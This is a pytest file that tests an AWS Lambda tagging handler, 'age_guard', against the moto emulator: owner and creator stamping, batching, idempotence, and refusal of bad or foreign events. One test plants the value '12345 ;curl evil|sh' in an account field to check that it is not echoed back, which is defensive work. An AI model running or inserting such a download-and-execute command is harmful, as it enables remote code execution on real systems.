"""age_guard under moto: every API call and caller kind, never overwriting, idempotent, batched."""

from __future__ import annotations

import json
import types
from datetime import timedelta
from typing import Any

import pytest

from tests.conftest import EVENTS, forbid_writes
from tests.integration.fleet import tags_of
from trainctl.aws.clients import ClientFactory
from trainctl.cli import stack_resources
from trainctl.cli.local_run import LocalContext, load_handler
from trainctl.core import tags
from trainctl.core.events import InvalidEvent

ALICE = "arn:aws:iam::123456789012:role/MLTeamTraining session alice@example.com"


@pytest.fixture
def handler(factory: ClientFactory, monkeypatch: pytest.MonkeyPatch) -> types.ModuleType:
    monkeypatch.setenv("TRAINCTL_REGIONS", "us-east-1,eu-west-1")
    # As deployed: the ledger holds the owners of record age_guard writes.
    stack_resources.ensure_on_emulator(factory, ("us-east-1",))
    module = load_handler("age_guard")
    monkeypatch.setattr(module, "client_factory", lambda: factory)
    return module


def event_for(case: str, **ids: str) -> dict[str, Any]:
    """The fixture with its placeholder ids replaced by real ones (placeholder=real)."""
    text = (EVENTS / "age_guard" / f"{case}.json").read_text()
    for placeholder, real in ids.items():
        text = text.replace(placeholder, real)
    event: dict[str, Any] = json.loads(text)
    return event


def run(handler: types.ModuleType, event: Any) -> dict[str, Any]:
    handler.deployed_settings.cache_clear()
    result: dict[str, Any] = handler.lambda_handler(event, LocalContext(function_name="trainctl-age_guard"))
    return result


def launch(factory: ClientFactory, count: int = 1, **tag_values: str) -> list[str]:
    spec = [{"ResourceType": "instance", "Tags": [{"Key": k, "Value": v} for k, v in tag_values.items()]}]
    response = factory.ec2("us-east-1").run_instances(
        ImageId="ami-0abcdef1234567890",
        MinCount=count,
        MaxCount=count,
        InstanceType="g5.xlarge",
        **({"TagSpecifications": spec} if tag_values else {}),
    )
    return [i["InstanceId"] for i in response["Instances"]]


def root_volume(factory: ClientFactory, instance_id: str) -> str:
    instance = factory.ec2("us-east-1").describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][0]
    return str(instance["BlockDeviceMappings"][0]["Ebs"]["VolumeId"])


def test_run_instances_by_an_assumed_role_stamps_instances_and_their_volumes_in_one_call(
    handler: types.ModuleType, factory: ClientFactory
) -> None:
    first, second = launch(factory, 2)
    before = factory.calls.by_operation["ec2:CreateTags"]
    describes = factory.calls.by_operation["ec2:DescribeInstances"]
    result = run(
        handler,
        event_for("run_instances_assumed_role", **{"i-0000000000000000a": first, "i-0000000000000000b": second}),
    )
    assert result["status"] == "stamped"
    assert factory.calls.by_operation["ec2:CreateTags"] - before == 1
    assert factory.calls.by_operation["ec2:DescribeInstances"] - describes == 1  # existence and volumes at once
    for resource_id in (first, second, root_volume(factory, first), root_volume(factory, second)):
        stamped = tags_of(factory, resource_id)
        assert stamped[tags.CREATED_BY] == ALICE
        assert stamped[tags.OWNER] == "alice@example.com"
        assert stamped[tags.CREATED_AT] == "2026-11-28T10:00:00Z"
        assert tags.MANAGED not in stamped  # no scope rule configured
    assert "ami-0aaaaaaaaaaaaaaaa" not in json.dumps(result)  # the source AMI is not stamped


def test_a_big_launch_is_tagged_in_as_few_calls_as_the_limits_allow(
    handler: types.ModuleType, factory: ClientFactory
) -> None:
    ids = launch(factory, 40)
    event = event_for("run_instances_assumed_role")
    event["detail"]["responseElements"]["instancesSet"]["items"] = [{"instanceId": i} for i in ids]
    before = factory.calls.by_operation["ec2:CreateTags"]
    result = run(handler, event)
    assert len(result["stamped"]) == 80  # instances and their root volumes
    assert factory.calls.by_operation["ec2:CreateTags"] - before == 1


def test_a_tag_a_person_set_is_never_overwritten(handler: types.ModuleType, factory: ClientFactory) -> None:
    mine, other = launch(factory, 1, **{tags.OWNER: "carol"})[0], launch(factory)[0]
    run(handler, event_for("run_instances_assumed_role", **{"i-0000000000000000a": mine, "i-0000000000000000b": other}))
    assert tags_of(factory, mine)[tags.OWNER] == "carol"
    assert tags_of(factory, mine)[tags.CREATED_BY] == ALICE
    assert tags_of(factory, other)[tags.OWNER] == "alice@example.com"


def test_a_repeated_event_is_a_no_op(handler: types.ModuleType, factory: ClientFactory) -> None:
    first, second = launch(factory, 2)
    event = event_for("run_instances_assumed_role", **{"i-0000000000000000a": first, "i-0000000000000000b": second})
    run(handler, event)
    attempts = forbid_writes(factory)
    again = run(handler, event)
    assert again["status"] == "unchanged" and attempts == []


def test_create_volume_by_an_iam_user(handler: types.ModuleType, factory: ClientFactory) -> None:
    volume_id = factory.ec2("us-east-1").create_volume(Size=500, AvailabilityZone="us-east-1a")["VolumeId"]
    run(handler, event_for("create_volume_iam_user", **{"vol-0000000000000000a": volume_id}))
    stamped = tags_of(factory, volume_id)
    assert stamped[tags.CREATED_BY] == "arn:aws:iam::123456789012:user/bob"
    assert stamped[tags.OWNER] == "bob"


def test_create_snapshot_by_root(handler: types.ModuleType, factory: ClientFactory) -> None:
    ec2 = factory.ec2("us-east-1")
    volume_id = ec2.create_volume(Size=10, AvailabilityZone="us-east-1a")["VolumeId"]
    snapshot_id = ec2.create_snapshot(VolumeId=volume_id)["SnapshotId"]
    run(
        handler,
        event_for(
            "create_snapshot_root", **{"snap-0000000000000000a": snapshot_id, "vol-0000000000000000a": volume_id}
        ),
    )
    stamped = tags_of(factory, snapshot_id)
    assert stamped[tags.CREATED_BY] == "arn:aws:iam::123456789012:root" and stamped[tags.OWNER] == "root"
    assert tags.CREATED_BY not in tags_of(factory, volume_id)  # the source volume was not created by this call


def test_create_snapshots_and_copy_snapshot_and_create_image(handler: types.ModuleType, factory: ClientFactory) -> None:
    ec2 = factory.ec2("us-east-1")
    volume_id = ec2.create_volume(Size=10, AvailabilityZone="us-east-1a")["VolumeId"]
    snaps = [ec2.create_snapshot(VolumeId=volume_id)["SnapshotId"] for _ in range(3)]
    run(
        handler,
        event_for(
            "create_snapshots_assumed_role", **{"snap-0000000000000000b": snaps[0], "snap-0000000000000000c": snaps[1]}
        ),
    )
    assert all(tags_of(factory, s)[tags.CREATED_BY] == ALICE for s in snaps[:2])
    run(handler, event_for("copy_snapshot_iam_user", **{"snap-0000000000000000d": snaps[2]}))
    assert tags_of(factory, snaps[2])[tags.OWNER] == "bob"
    instance_id = launch(factory)[0]
    image_id = ec2.create_image(InstanceId=instance_id, Name="llm-train-image")["ImageId"]
    run(
        handler,
        event_for(
            "create_image_assumed_role", **{"ami-0000000000000000a": image_id, "i-0000000000000000a": instance_id}
        ),
    )
    assert tags_of(factory, image_id)[tags.OWNER] == "alice@example.com"
    assert tags.OWNER not in tags_of(factory, instance_id)  # the source instance is not the image's creation


def test_aws_service_callers_are_named_as_services(handler: types.ModuleType, factory: ClientFactory) -> None:
    fleet_a, fleet_b = launch(factory, 2)
    run(
        handler,
        event_for("create_fleet_aws_service", **{"i-0000000000000000c": fleet_a, "i-0000000000000000d": fleet_b}),
    )
    assert tags_of(factory, fleet_a)[tags.CREATED_BY] == "service:autoscaling.amazonaws.com"
    assert tags_of(factory, fleet_b)[tags.OWNER] == "autoscaling.amazonaws.com"
    lone = launch(factory)[0]
    run(handler, event_for("run_instances_aws_service_principal", **{"i-0000000000000000e": lone}))
    assert tags_of(factory, lone)[tags.CREATED_BY] == "service:ec2fleet.amazonaws.com"


def test_spot_requests_are_stamped_and_their_instances_inherit_the_owner_on_first_start(
    handler: types.ModuleType, factory: ClientFactory
) -> None:
    ec2 = factory.ec2("us-east-1")
    request = ec2.request_spot_instances(
        InstanceCount=1, LaunchSpecification={"ImageId": "ami-0abcdef1234567890", "InstanceType": "g5.xlarge"}
    )["SpotInstanceRequests"][0]
    request_id = request["SpotInstanceRequestId"]
    run(handler, event_for("request_spot_instances_assumed_role", **{"sir-p8kf3zxm": request_id}))
    assert tags_of(factory, request_id)[tags.CREATED_BY] == ALICE
    instance_id = ec2.describe_spot_instance_requests(SpotInstanceRequestIds=[request_id])["SpotInstanceRequests"][0][
        "InstanceId"
    ]
    result = run(handler, event_for("instance_running", **{"i-0000000000000000a": instance_id}))
    assert result["status"] == "stamped"
    assert tags_of(factory, instance_id)[tags.OWNER] == "alice@example.com"


def test_first_start_without_a_trail_stamps_the_launch_time_only(
    handler: types.ModuleType, factory: ClientFactory
) -> None:
    instance_id = launch(factory)[0]
    run(handler, event_for("instance_running", **{"i-0000000000000000a": instance_id}))
    stamped = tags_of(factory, instance_id)
    assert stamped[tags.CREATED_AT].endswith("Z") and tags.CREATED_BY not in stamped
    # The trail arriving later (out of order) adds who, and keeps the launch time already stamped.
    created_at = stamped[tags.CREATED_AT]
    run(
        handler,
        event_for(
            "run_instances_assumed_role",
            **{"i-0000000000000000a": instance_id, "i-0000000000000000b": launch(factory)[0]},
        ),
    )
    assert tags_of(factory, instance_id)[tags.CREATED_BY] == ALICE
    assert tags_of(factory, instance_id)[tags.CREATED_AT] == created_at


def test_scope_rules_and_owner_map(
    handler: types.ModuleType, factory: ClientFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TRAINCTL_SCOPE_PRINCIPALS", "arn:aws:iam::*:role/MLTeam*")
    monkeypatch.setenv("TRAINCTL_OWNER_MAP", json.dumps({"arn:aws:iam::*:role/MLTeam*": "ml-platform"}))
    first, second = launch(factory, 2)
    run(
        handler,
        event_for("run_instances_assumed_role", **{"i-0000000000000000a": first, "i-0000000000000000b": second}),
    )
    assert tags_of(factory, first)[tags.MANAGED] == "true"
    assert tags_of(factory, first)[tags.OWNER] == "ml-platform"
    volume_id = factory.ec2("us-east-1").create_volume(Size=5, AvailabilityZone="us-east-1a")["VolumeId"]
    run(handler, event_for("create_volume_iam_user", **{"vol-0000000000000000a": volume_id}))
    assert tags.MANAGED not in tags_of(factory, volume_id)  # bob is not in the scope rules


def test_scope_from_a_tag_set_at_creation(
    handler: types.ModuleType, factory: ClientFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TRAINCTL_SCOPE_FROM_TAG", "team=ml")
    tagged, plain = launch(factory, 1, team="ml")[0], launch(factory)[0]
    run(
        handler,
        event_for("run_instances_assumed_role", **{"i-0000000000000000a": tagged, "i-0000000000000000b": plain}),
    )
    assert tags_of(factory, tagged)[tags.MANAGED] == "true"
    assert tags.MANAGED not in tags_of(factory, plain)


def test_a_failed_call_is_ignored_and_writes_nothing(handler: types.ModuleType, factory: ClientFactory) -> None:
    attempts = forbid_writes(factory)
    result = run(handler, event_for("run_instances_failed"))
    assert result["status"] == "ignored" and "InsufficientInstanceCapacity" in result["reason"]
    assert attempts == []


def test_an_event_from_another_region_or_account_is_refused_clearly(
    handler: types.ModuleType, factory: ClientFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    attempts = forbid_writes(factory)
    result = run(handler, event_for("create_volume_other_region"))
    assert result["status"] == "refused" and "ap-southeast-2" in result["reason"]
    monkeypatch.setenv("TRAINCTL_ACCOUNT_ID", "999999999999")
    result = run(handler, event_for("create_volume_iam_user"))
    assert result["status"] == "refused" and "123456789012" in result["reason"]
    assert attempts == []


def test_a_forged_account_in_an_event_is_refused_without_being_repeated(
    handler: types.ModuleType, factory: ClientFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    attempts = forbid_writes(factory)
    monkeypatch.setenv("TRAINCTL_ACCOUNT_ID", "999999999999")
    event = event_for("create_volume_iam_user")
    forged = "12345 ;curl evil|sh\n<b>"
    event["detail"]["recipientAccountId"] = forged
    result = run(handler, event)
    assert result["status"] == "refused" and "999999999999" in result["reason"]
    assert "curl" not in result["reason"] and "\n" not in result["reason"]
    assert attempts == []


@pytest.mark.parametrize(
    "event",
    [
        event_for("malformed_instance_id"),
        event_for("malformed_missing_fields"),
        {"detail-type": "EC2 Spot Instance Interruption Warning", "source": "aws.ec2", "detail": {}},
        {"detail-type": "AWS API Call via CloudTrail", "source": "aws.s3", "detail": {}},
        "RunInstances",
    ],
)
def test_bad_input_is_refused_and_changes_nothing(
    handler: types.ModuleType, factory: ClientFactory, event: Any
) -> None:
    attempts = forbid_writes(factory)
    with pytest.raises(InvalidEvent):
        run(handler, event)
    assert attempts == []


def test_ids_that_do_not_exist_are_reported_and_nothing_is_written(
    handler: types.ModuleType, factory: ClientFactory
) -> None:
    attempts = forbid_writes(factory)
    result = run(handler, event_for("create_volume_iam_user"))  # its placeholder volume never existed
    assert result["status"] == "ignored" and "vol-0000000000000000a no longer exist" in result["reason"]
    gone_instance = run(handler, event_for("instance_running"))
    assert gone_instance["status"] == "ignored" and "no longer exists" in gone_instance["reason"]
    assert attempts == []


def test_some_gone_some_present_stamps_the_present_and_names_the_gone(
    handler: types.ModuleType, factory: ClientFactory
) -> None:
    (present,) = launch(factory)
    result = run(handler, event_for("run_instances_assumed_role", **{"i-0000000000000000a": present}))
    assert present in result["stamped"] and "i-0000000000000000b no longer exist" in result["reason"]


def test_an_event_at_the_256_kb_limit_is_handled(handler: types.ModuleType, factory: ClientFactory) -> None:
    first, second = launch(factory, 2)
    event = event_for("run_instances_assumed_role", **{"i-0000000000000000a": first, "i-0000000000000000b": second})
    padding = 256 * 1024 - len(json.dumps(event)) - 64
    event["detail"]["requestParameters"]["userData"] = "<sensitiveDataRemoved>" + "x" * padding
    assert 250 * 1024 < len(json.dumps(event).encode()) <= 256 * 1024
    assert run(handler, event)["status"] == "stamped"


# ------------------------------------------------------------------------------------------------- issue 17


def launched_earlier(instance_id: str, by: timedelta = timedelta(hours=1)) -> None:
    """Move a launch (and what it attached) back in moto's records: the event is processed long after it."""
    from moto.core import DEFAULT_ACCOUNT_ID
    from moto.ec2.models import ec2_backends

    backend = ec2_backends[DEFAULT_ACCOUNT_ID]["us-east-1"]
    instance = backend.get_instance(instance_id)
    instance.launch_time -= by
    for device in instance.block_device_mapping.values():
        device.attach_time -= by
        backend.get_volume(device.volume_id).attachment.attach_time -= by


def shared_dataset(factory: ClientFactory, instance_id: str, **labels: str) -> str:
    """A dataset volume that is not the launch's, attached to the instance after it started."""
    ec2 = factory.ec2("us-east-1")
    zone = ec2.describe_instances(InstanceIds=[instance_id])["Reservations"][0]["Instances"][0]["Placement"]
    spec = [{"ResourceType": "volume", "Tags": [{"Key": k, "Value": v} for k, v in labels.items()]}]
    volume_id = str(
        ec2.create_volume(
            Size=2000, AvailabilityZone=zone["AvailabilityZone"], **({"TagSpecifications": spec} if labels else {})
        )["VolumeId"]
    )
    ec2.attach_volume(VolumeId=volume_id, InstanceId=instance_id, Device="/dev/sdz")
    return volume_id


def test_a_late_launch_event_stamps_the_launchs_volumes_not_a_dataset_attached_since(
    handler: types.ModuleType, factory: ClientFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Item 1: every volume attached when the event was processed got the launcher as creator, and the scope tag."""
    monkeypatch.setenv("TRAINCTL_SCOPE_PRINCIPALS", "arn:aws:iam::*:role/MLTeam*")
    first, second = launch(factory, 2)
    launched_earlier(first)
    launched_earlier(second)
    untagged = shared_dataset(factory, first)
    owned = shared_dataset(factory, second, **{tags.OWNER: "data-team"})
    result = run(
        handler,
        event_for("run_instances_assumed_role", **{"i-0000000000000000a": first, "i-0000000000000000b": second}),
    )
    assert result["status"] == "stamped"
    for root in (root_volume(factory, first), root_volume(factory, second)):
        assert tags_of(factory, root)[tags.CREATED_BY] == ALICE and tags_of(factory, root)[tags.MANAGED] == "true"
    assert tags_of(factory, untagged) == {}
    assert tags_of(factory, owned) == {tags.OWNER: "data-team"}
    assert untagged not in result["stamped"] and owned not in result["stamped"]


def test_a_first_start_does_not_adopt_a_volume_attached_after_the_launch(
    handler: types.ModuleType, factory: ClientFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Item 1, first start: the same adoption, with the launch time as created-at."""
    monkeypatch.setenv("TRAINCTL_SCOPE_LAUNCH_TEMPLATES", "lt-0123456789abcdef0")
    (instance_id,) = launch(factory, 1, **{"aws:ec2launchtemplate:id": "lt-0123456789abcdef0"})
    launched_earlier(instance_id)
    dataset = shared_dataset(factory, instance_id, team="data")
    result = run(handler, event_for("instance_running", **{"i-0000000000000000a": instance_id}))
    assert set(result["stamped"]) == {instance_id, root_volume(factory, instance_id)}
    assert tags_of(factory, dataset) == {"team": "data"}


def test_a_launch_mapping_its_own_data_volume_stamps_it(handler: types.ModuleType, factory: ClientFactory) -> None:
    """The launch's data volume, with the DeleteOnTermination the request asked for, is the launch's."""
    response = factory.ec2("us-east-1").run_instances(
        ImageId="ami-0abcdef1234567890",
        MinCount=1,
        MaxCount=1,
        InstanceType="g5.2xlarge",
        BlockDeviceMappings=[{"DeviceName": "/dev/sdf", "Ebs": {"VolumeSize": 500, "DeleteOnTermination": False}}],
    )
    instance_id = response["Instances"][0]["InstanceId"]
    data = {m["DeviceName"]: m["Ebs"]["VolumeId"] for m in response["Instances"][0]["BlockDeviceMappings"]}["/dev/sdf"]
    result = run(handler, event_for("run_instances_console_user", **{"i-0000000000000000a": instance_id}))
    assert result["status"] == "stamped" and data in result["stamped"]
    assert tags_of(factory, data)[tags.CREATED_BY] == "arn:aws:iam::123456789012:user/dana"
    assert tags_of(factory, instance_id)[tags.OWNER] == "dana"  # the console user, not the sign-in service


@pytest.mark.parametrize(
    ("case", "ids"),
    [
        ("create_fleet_single_item", {"i-0000000000000000e": "instance"}),
        ("create_snapshots_single_item", {"snap-0000000000000000e": "snapshot"}),
        ("create_volume_aws_internal", {"vol-0000000000000000a": "volume"}),
    ],
)
def test_real_cloudtrail_shapes_are_stamped(
    handler: types.ModuleType, factory: ClientFactory, case: str, ids: dict[str, str]
) -> None:
    ec2 = factory.ec2("us-east-1")
    made: dict[str, str] = {}
    for placeholder, kind in ids.items():
        if kind == "instance":
            made[placeholder] = launch(factory)[0]
        else:
            volume_id = ec2.create_volume(Size=10, AvailabilityZone="us-east-1a")["VolumeId"]
            made[placeholder] = volume_id if kind == "volume" else ec2.create_snapshot(VolumeId=volume_id)["SnapshotId"]
    result = run(handler, event_for(case, **made))
    assert result["status"] == "stamped", result
    assert all(tags_of(factory, real)[tags.OWNER] == "alice@example.com" for real in made.values())


@pytest.mark.parametrize("case", ["run_instances_dry_run", "create_volume_unauthorized"])
def test_a_dry_run_or_a_refused_call_created_nothing(
    handler: types.ModuleType, factory: ClientFactory, case: str
) -> None:
    attempts = forbid_writes(factory)
    result = run(handler, event_for(case))
    assert result["status"] == "ignored" and "Client." in result["reason"] and attempts == []
